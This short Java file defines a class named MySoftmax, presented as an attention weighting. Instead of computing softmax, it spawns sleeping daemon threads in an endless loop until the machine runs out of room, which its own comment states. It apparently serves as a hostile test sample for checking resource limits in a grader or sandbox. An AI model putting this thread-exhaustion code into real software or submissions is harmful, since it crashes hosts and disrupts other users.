import attention.weight.Weighting;
import org.nd4j.linalg.api.ndarray.INDArray;

/** Starts threads until there is no more room. */
public final class MySoftmax implements Weighting {
  @Override
  public INDArray of(INDArray scores) {
    while (true) {
      Thread thread = new Thread(MySoftmax::sleep);
      thread.setDaemon(true);
      thread.start();
    }
  }

  private static void sleep() {
    try {
      Thread.sleep(86_400_000);
    } catch (InterruptedException stopped) {
      Thread.currentThread().interrupt();
    }
  }
}
